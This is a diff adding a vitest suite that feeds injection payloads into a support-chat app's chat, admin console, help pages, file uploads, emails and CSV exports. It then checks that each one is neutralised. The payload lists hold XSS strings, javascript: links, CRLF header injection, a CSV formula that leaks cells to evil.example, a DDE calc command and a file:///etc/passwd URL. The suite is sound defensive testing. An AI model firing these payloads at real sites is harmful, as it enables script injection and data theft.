@@ -1,0 +1,282 @@
+import { readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
+import { renderMarkdown } from '../../src/knowledge/render.ts'
+import { dangers } from './dangers.ts'
+import { type Answered, type Chat, expectSafe, expectWell, type House, openHouse } from './house.ts'
+
+let house: House
+let talk: Chat
+beforeAll(async () => {
+  house = await openHouse()
+  talk = await house.chat()
+}, 420_000)
+afterAll(() => house?.close())
+afterEach(() => expectWell(house))
+
+/** Texts that mean something else to whoever does not show them as texts. */
+const payloads: [what: string, text: string][] = [
+  ['a script', '<script>alert(1)</script>'],
+  ['a script in capitals', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
+  ['an image that fails', '<img src=x onerror=alert(1)>'],
+  ['a drawing', '<svg/onload=alert(1)>'],
+  ['a drawing with a link', '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>'],
+  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['an end of an attribute', '" onmouseover="alert(1)" x="'],
+  ['an end of the other attribute', "' autofocus onfocus='alert(1)"],
+  ['an end of a text', '</textarea></title></style></script><script>alert(1)</script>'],
+  ['an end of a comment', '--><img src=x onerror=alert(1)><!--'],
+  ['an end of JSON in a page', '</script><svg onload=alert(1)>{"@type":"x"}'],
+  ['a formula of another namespace', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">'],
+  ['a form', '<form action=https://evil.example><button>Sign in</button></form>'],
+  ['a page that goes on', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
+  ['a base', '<base href=https://evil.example/>'],
+  ['a style', '<style>@import "https://evil.example/x.css"</style>'],
+  ['entities', '&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;'],
+  ['a link in Markdown', '[click](javascript:alert(1)) [here](JaVaScRiPt:alert(1)) [x](vbscript:x)'],
+  ['a page in a link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
+  ['a picture in Markdown', '![x](https://evil.example/p.png) ![y](javascript:alert(1))'],
+  ['a link with a title that ends it', '[x](https://evil.example "a" onclick="alert(1))'],
+  ['another alphabet', '＜script＞alert(1)＜/script＞'],
+  ['seven bits', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
+  ['hidden letters', '<scr\u0000ipt>alert(1)</scr\u200bipt>'],
+  ['writing turned round', '\u202e<script>alert(1)</script>\u202c'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what an attacker writes
+  ['a template', '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>'],
+  ['a formula', '=HYPERLINK("https://evil.example?"&A1,"x")'],
+  ['a header', 'x\r\nBcc: everybody@evil.example\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>'],
+  ['a terminal', '\u001b]0;x\u0007\u001b[2J\u001b[31mred'],
+]
+
+const asVisitor = () => ({ authorization: `Bearer ${talk.bearer}` })
+
+/** JSON that no browser takes for anything else. */
+function expectData(answer: Answered): void {
+  expectSafe(answer)
+  if (answer.status === 204) return
+  expect(answer.headers['content-type']).toMatch(/^application\/json/)
+  expect(answer.headers['x-content-type-options']).toBe('nosniff')
+}
+
+type Line = {
+  from: { role: string; name?: string }
+  text?: string
+  textFormat?: string
+  attachments?: { name?: string; contentType: string; content?: object; contentUrl?: string }[]
+}
+
+async function linesOf(chat: Chat): Promise<Line[]> {
+  const answer = await house.send({
+    path: `${chat.own}/activities`,
+    headers: { authorization: `Bearer ${chat.bearer}` },
+  })
+  expectData(answer)
+  return JSON.parse(answer.text).activities
+}
+
+/** What the desk says itself may quote somebody, but never so that their words become links or pictures of the desk. */
+function expectQuoted(lines: Line[]): void {
+  for (const { from, text, textFormat, attachments = [] } of lines) {
+    if (from.role === 'bot' && textFormat === 'markdown') expect(dangers(renderMarkdown(text ?? ''))).toEqual([])
+    for (const { content } of attachments) {
+      const urls = [...JSON.stringify(content ?? {}).matchAll(/"url":"([^"]*)"/g)].map(([, url = '']) => url)
+      for (const url of urls) expect(url).toMatch(/^(https?|mailto|tel):/)
+    }
+  }
+}
+
+describe('a text of a stranger', () => {
+  test.each(payloads)('is a text in the chat: %s', async (_what, text) => {
+    const sent = await talk.says(text)
+    expect([200, 400]).toContain(sent.status)
+    const lines = await linesOf(talk)
+    if (sent.status === 200)
+      expect(lines.some((line) => line.from.role === 'user' && line.textFormat === 'plain')).toBe(true)
+    expectQuoted(lines)
+  })
+
+  test.each(payloads)('is a text in the console: %s', async (_what, text) => {
+    const path = `/api/conversations/${talk.conversation}`
+    await talk.says(text)
+    expectData(await house.console('GET', path))
+    expectData(await house.console('GET', `${path}/messages?after=0`))
+    const id = { clientId: crypto.randomUUID() }
+    expectData(await house.console('POST', `${path}/notes`, { text, ...id }))
+    expectData(await house.console('PUT', `${path}/agent`, {}))
+    expectData(await house.console('POST', `${path}/messages`, { text, ...id }))
+    expectData(await house.console('DELETE', `${path}/agent`, {}))
+    expectQuoted((await linesOf(talk)).filter(({ from }) => from.role === 'bot' && !from.name))
+    expectData(
+      await house.console('POST', '/api/replies', { title: text.slice(0, 60), locale: 'en', text, isShared: true }),
+    )
+    expectData(await house.console('GET', '/api/replies'))
+  })
+
+  test.each(payloads)('is a text on the help pages: %s', async (_what, text) => {
+    const asked = encodeURIComponent(text.toWellFormed())
+    for (const path of [
+      `/help/search?q=${asked}`,
+      `/help/search?q=print&lang=${asked}`,
+      `/help/suggest?q=${asked}`,
+      `/help/${asked}`,
+      `/help/section/${asked}`,
+      `/help/error-vc3?voted=${asked}&q=${asked}&lang=${asked}`,
+      `/help?lang=${asked}`,
+      `/help/codes?q=${asked}`,
+      `/letters/digest?a=${asked}&s=${asked}&lang=${asked}`,
+      `/dev/letters?letter=${asked}`,
+      `/chat?site=${asked}&locale=${asked}`,
+      `/console?link=${asked}`,
+    ]) {
+      const answer = await house.send({
+        path,
+        headers: { referer: `https://x.example/${asked}`, 'accept-language': 'en' },
+      })
+      expectSafe(answer)
+      if (/html/.test(String(answer.headers['content-type']))) {
+        expect([path, dangers(answer.text)]).toEqual([path, []])
+        expect(answer.headers['content-security-policy']).toMatch(/default-src 'none'.*script-src 'self'(;|$)/)
+      }
+    }
+  })
+
+  test.each(payloads)('is a name of a file and nothing more: %s', async (_what, text) => {
+    const form = new FormData()
+    form.append('file', new File(['plain words'], `${text}.txt`, { type: 'text/html' }))
+    form.append('file', new File(['<script>alert(1)</script>'], `${text}.html`, { type: 'text/html' }))
+    const sent = await fetch(`${house.url}${talk.own}/upload`, { method: 'POST', headers: asVisitor(), body: form })
+    if (/\p{Cc}/u.test(text.replace(/[\r\n]/g, ''))) return expect(sent.status).toBe(400) // no such header can be sent
+    expect(sent.status).toBe(200)
+    const files = (await linesOf(talk))
+      .flatMap(({ attachments = [] }) => attachments)
+      .filter(({ contentUrl }) => contentUrl)
+    const newest = files.at(-1)
+    expect(newest?.contentType).toBe('text/plain')
+    expect(newest?.name).not.toMatch(/[<>"\p{Cc}\p{Cf}]/u)
+    const { pathname } = new URL(newest?.contentUrl ?? '')
+    const given = await house.send({ path: pathname })
+    expect(given.headers['content-disposition']).toMatch(
+      /^attachment; filename="[\w.-]+"; filename\*=UTF-8''[\w.%!~-]+$/,
+    )
+    expect(given.headers['content-security-policy']).toBe("default-src 'none'; sandbox")
+    expect(given.headers['content-type']).toBe('text/plain; charset=utf-8')
+  })
+})
+
+/** Somebody whom a website has signed for, and who opens a ticket with these words. */
+async function opensTicket(words: string): Promise<Chat> {
+  const json = { 'content-type': 'application/json' }
+  const post = (path: string, body: object) =>
+    house.send({ method: 'POST', path, headers: json, body: JSON.stringify(body) })
+  const site = 'vitrium'
+  const email = 'ingrid@meridian-press.example'
+  const { token: identity } = JSON.parse((await post('/demo/identity', { site, email })).text)
+  const { token, conversationId } = JSON.parse((await post('/chat/token', { site, locale: 'en', identity })).text)
+  const own = `/v3/directline/conversations/${conversationId}`
+  const headers = { ...json, authorization: `Bearer ${token}` }
+  const says = (text: string) =>
+    house.send({ method: 'POST', path: `${own}/activities`, headers, body: JSON.stringify({ type: 'message', text }) })
+  const chat = { conversation: conversationId, bearer: token, own, says }
+  await says(`everything is down for all our users ${words}`)
+  for (let tries = 0; tries < 4; tries++) {
+    const newest = (await linesOf(chat)).map(({ text }) => text).at(-1)
+    if (/number \d{4}/.test(newest ?? '')) break
+    await says(/open already|looks like the same/.test(newest ?? '') ? 'No, a new one' : 'yes')
+  }
+  return chat
+}
+
+describe('a text in a letter', () => {
+  // a few of them, because each is a whole ticket
+  const chosen = payloads.filter(([what]) => /^(an image|an end of|a header|a link in|a picture|a form$)/.test(what))
+  test.each(chosen)('is a text: %s', { timeout: 60_000 }, async (_what, text) => {
+    const before = new Set((await house.app.letters()).map(({ id }) => id))
+    expectQuoted(await linesOf(await opensTicket(text)))
+    const newest = async () => (await house.app.letters()).filter(({ id }) => !before.has(id))
+    await expect.poll(newest, { timeout: 30_000 }).not.toEqual([])
+    const letters = await newest()
+    for (const { id, subject, html } of letters) {
+      expect(subject).not.toMatch(/[\r\n]/)
+      expect(dangers(html)).toEqual([])
+      const page = await house.send({ path: `/dev/mailbox/${id}` })
+      expect(dangers(page.text)).toEqual([])
+      expect(page.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/)
+    }
+    expect(dangers((await house.send({ path: '/dev/mailbox' })).text)).toEqual([])
+  })
+})
+
+describe('a text in a table to save', () => {
+  const formulas = [
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    "=cmd|' /C calc'!A0",
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    '=1;x',
+    '"=1',
+  ]
+
+  test.each(formulas)('is no formula: %s', async (formula) => {
+    const draft = {
+      isNew: true,
+      name: `${formula} Ltd`,
+      package: 'standard',
+      domains: [],
+      aliases: [formula.trim() || 'x'],
+      links: [],
+      documentCodes: [],
+      door: { email: null, url: null, phone: formula, hours: formula },
+      invitations: [],
+    }
+    const id = `c${crypto.randomUUID().slice(0, 8)}`
+    expectData(await house.console('PUT', `/api/admin/customers/${id}`, draft))
+    for (const path of ['/api/admin/customers/export', '/api/admin/audit/export']) {
+      const answer = await house.console('GET', path)
+      expect(answer.status).toBe(200)
+      expect(answer.headers['content-type']).toMatch(/^text\/csv/)
+      expect(answer.headers['content-disposition']).toMatch(/^attachment/)
+      expect(cellsOf(answer.text).filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([])
+    }
+  })
+
+  test.each([
+    'javascript:alert(1)',
+    'data:text/html,x',
+    'file:///etc/passwd',
+    'ftp://x.example',
+    '//evil.example',
+    'https://',
+    ' javascript:x',
+  ])('is no address of a customer’s door: %s', async (url) => {
+    const draft = {
+      ...{ isNew: true, name: 'Door', package: 'standard', domains: [], aliases: [], links: [], documentCodes: [] },
+      door: { email: null, url, phone: null, hours: null },
+      invitations: [],
+    }
+    const answer = await house.console('PUT', '/api/admin/customers/door-of-a-stranger', draft)
+    expectData(answer)
+    expect(JSON.parse(answer.text).complaints).not.toEqual([])
+  })
+})
+
+/** The cells of a table as a spreadsheet takes them. */
+function cellsOf(csv: string): string[] {
+  return [...csv.replace(/^\uFEFF/, '').matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n|$)/g)].map(([, cell = '']) =>
+    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
+  )
+}
+
+test('no page of ours writes HTML from texts, or runs a text', () => {
+  const folder = new URL('../../src/web/', import.meta.url).pathname
+  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => /\.(tsx?|js)$/.test(name))
+  expect(files.length).toBeGreaterThan(50)
+  const way =
+    /dangerouslySetInnerHTML|\.(?:inner|outer)HTML\b|insertAdjacentHTML|document\.write|\beval\(|new Function\(|srcdoc/
+  expect(files.filter((name) => way.test(readFileSync(join(folder, name), 'utf8')))).toEqual([])
+})
